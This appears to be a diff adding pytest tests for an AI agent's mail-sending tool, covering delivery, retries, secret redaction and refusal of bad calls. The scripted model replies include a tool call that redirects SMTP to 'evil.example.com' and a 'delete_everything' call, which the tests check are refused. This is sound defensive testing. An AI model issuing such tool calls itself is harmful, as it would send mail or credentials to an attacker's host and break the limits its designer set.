@@ -1,0 +1,162 @@
+"""The agent through the real ``openai`` SDK, talking HTTP to a local
+OpenAI-compatible server, sending real mail to a local SMTP server."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from runtime.tools import agent_tool_specs
+from tests.servers.flows import AI_SCOPE, agent_flow, fixed, registry, run
+from tests.servers.llm import LlmServer, error_body, openai_reply
+from tests.servers.smtp import SmtpServer
+
+API_KEY = "sk-test-0penai-K3Y-must-not-leak"
+SMTP_PASSWORD = "smtp-pa55word-must-not-leak"
+
+# The test SMTP server takes AUTH over plain loopback on purpose.
+pytestmark = pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS")
+
+
+@pytest.fixture
+def llm():
+    with LlmServer() as server:
+        yield server
+
+
+@pytest.fixture
+def smtp():
+    with SmtpServer(username="bot", password=SMTP_PASSWORD) as server:
+        yield server
+
+
+@pytest.fixture(autouse=True)
+def _secrets(monkeypatch):
+    monkeypatch.setenv("TEST_OPENAI_KEY", API_KEY)
+    monkeypatch.setenv("TEST_SMTP_PASSWORD", SMTP_PASSWORD)
+
+
+def openai_agent(llm: LlmServer, **extra) -> dict:
+    params = {"provider": fixed("openai"), "model": fixed("gpt-test"),
+              "base_url": fixed(llm.openai_url), "api_key_env": fixed("TEST_OPENAI_KEY"),
+              "instructions": fixed("You send mail.")}
+    params.update({k: fixed(v) for k, v in extra.items()})
+    return params
+
+
+def mail_tool(smtp: SmtpServer) -> dict:
+    return {"id": "mail", "type": "mail.send", "params": {
+        "to": AI_SCOPE, "subject": AI_SCOPE, "body": AI_SCOPE,
+        "sender": fixed("assistant@example.com"),
+        "smtp_host": fixed("127.0.0.1"), "smtp_port": fixed(smtp.port),
+        "username": fixed("bot"), "password": fixed({"env": "TEST_SMTP_PASSWORD"})}}
+
+
+async def test_parallel_tool_calls_send_real_mail_with_ai_and_designer_values(llm, smtp):
+    llm.replies = [
+        openai_reply(tool_calls=[
+            ("send_email", {"to": "ann@example.com", "subject": "Shipped", "body": "Your order shipped."}),
+            ("send_email", {"to": "bob@example.com", "subject": "Delayed", "body": "Sorry, delayed."}),
+            ("send_email", {"to": "eve@example.com", "subject": "x", "body": "y",
+                            "smtp_host": "evil.example.com"}),
+        ], usage=(100, 30)),
+        openai_reply("I emailed Ann and Bob.", usage=(200, 10)),
+    ]
+    flow = agent_flow(openai_agent(llm), [mail_tool(smtp)], prompt="Tell Ann and Bob")
+    result, rec, _ = await run(flow)
+    assert result.status == "ok", rec.of("node.error")
+
+    # Real mail, with the AI's arguments and the designer's fixed values.
+    assert sorted(m["To"] for m in smtp.messages) == ["ann@example.com", "bob@example.com"]
+    ann = next(m for m in smtp.messages if m["To"] == "ann@example.com")
+    assert ann["Subject"] == "Shipped"
+    assert ann.get_payload().strip() == "Your order shipped."
+    assert ann["From"] == "assistant@example.com"
+    assert smtp.logins == ["bot", "bot"]
+    # The hostile call was refused: no mail to eve, and the LLM was told why.
+    assert not any("eve@example.com" in r["rcpt_tos"] for r in smtp.received)
+
+    first, second = (r["body"] for r in llm.requests)
+    assert first["model"] == "gpt-test"
+    assert first["messages"][0] == {"role": "system", "content": "You send mail."}
+    assert first["messages"][1] == {"role": "user", "content": "Tell Ann and Bob"}
+    # The tools the LLM saw are exactly what `switchboard tools` prints.
+    assert first["tools"] == agent_tool_specs(flow, registry())["agent"]
+    assert set(first["tools"][0]["function"]["parameters"]["properties"]) == {"to", "subject", "body"}
+    tool_msgs = [m for m in second["messages"] if m["role"] == "tool"]
+    assistant = next(m for m in second["messages"] if m["role"] == "assistant")
+    assert [m["tool_call_id"] for m in tool_msgs] == [c["id"] for c in assistant["tool_calls"]]
+    assert json.loads(tool_msgs[0]["content"])["accepted"] == ["ann@example.com"]
+    assert "refused" in tool_msgs[2]["content"] and "smtp_host" in tool_msgs[2]["content"]
+
+    [msg] = rec.debug_values()
+    assert msg["payload"] == "I emailed Ann and Bob."
+    assert msg["agent"]["turns"] == 2
+    assert msg["agent"]["usage"] == {"input_tokens": 300, "output_tokens": 40}
+    assert [c["status"] for c in msg["agent"]["tool_calls"]] == ["success", "success", "refused"]
+    assert msg["agent"]["tool_calls"][0]["data"]["message_id"].startswith("<")
+
+    # The key went only into the Authorization header; no secret anywhere else.
+    assert llm.requests[0]["headers"]["authorization"] == f"Bearer {API_KEY}"
+    dump = rec.dump()
+    assert API_KEY not in dump and SMTP_PASSWORD not in dump
+    assert API_KEY not in flow.dumps() and SMTP_PASSWORD not in flow.dumps()
+    for kind in ("llm.request", "llm.response", "tool.call", "tool.result"):
+        assert rec.of(kind)
+
+
+async def test_429_and_5xx_are_retried(llm):
+    llm.replies = [(429, error_body("openai", 429, "slow down")),
+                   (500, error_body("openai", 500, "oops")),
+                   openai_reply("fine")]
+    flow = agent_flow(openai_agent(llm), [])
+    result, rec, _ = await run(flow)
+    assert result.status == "ok", rec.of("node.error")
+    assert rec.debug_values()[0]["payload"] == "fine"
+    assert len(llm.requests) == 3
+    assert "tools" not in llm.requests[0]["body"]
+
+
+async def test_final_failure_names_provider_and_status_never_the_key(llm):
+    llm.replies = lambda kind, body: (503, error_body(kind, 503, f"backend down for key {API_KEY}"))
+    flow = agent_flow(openai_agent(llm, retries=2), [])
+    result, rec, _ = await run(flow)
+    assert result.status == "error"
+    [err] = rec.of("node.error")
+    assert err.node == "agent"
+    assert err.message.startswith("openai: HTTP 503: backend down for key ***")
+    assert "gave up after 3 attempts" in err.message
+    assert len(llm.requests) == 3
+    assert API_KEY not in rec.dump()
+
+
+async def test_client_errors_are_not_retried(llm):
+    llm.replies = [(401, error_body("openai", 401, "Incorrect API key provided"))]
+    result, rec, _ = await run(agent_flow(openai_agent(llm), []))
+    assert result.status == "error"
+    assert rec.of("node.error")[0].message == "openai: HTTP 401: Incorrect API key provided"
+    assert len(llm.requests) == 1
+
+
+async def test_missing_key_is_named_by_its_env_var(monkeypatch):
+    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
+    flow = agent_flow({"provider": fixed("openai")}, [])
+    result, rec, _ = await run(flow)
+    assert result.status == "error"
+    assert "OPENAI_API_KEY is not set" in rec.of("node.error")[0].message
+
+
+async def test_bad_json_arguments_from_the_model_are_refused(llm, smtp):
+    llm.replies = [openai_reply(tool_calls=[("send_email", '{"to": "a@example.com", ')]),
+                   openai_reply(tool_calls=[("delete_everything", {})]),
+                   openai_reply("ok")]
+    result, rec, _ = await run(agent_flow(openai_agent(llm), [mail_tool(smtp)]))
+    assert result.status == "ok"
+    assert [r.status for r in rec.of("tool.result")] == ["refused", "refused"]
+    assert "not valid JSON" in rec.of("tool.result")[0].error
+    assert "unknown tool 'delete_everything'" in rec.of("tool.result")[1].error
+    assert smtp.received == []
+    # The model's own text for the bad call goes back to it unchanged.
+    assistant = next(m for m in llm.requests[1]["body"]["messages"] if m["role"] == "assistant")
+    assert assistant["tool_calls"][0]["function"]["arguments"] == '{"to": "a@example.com", '
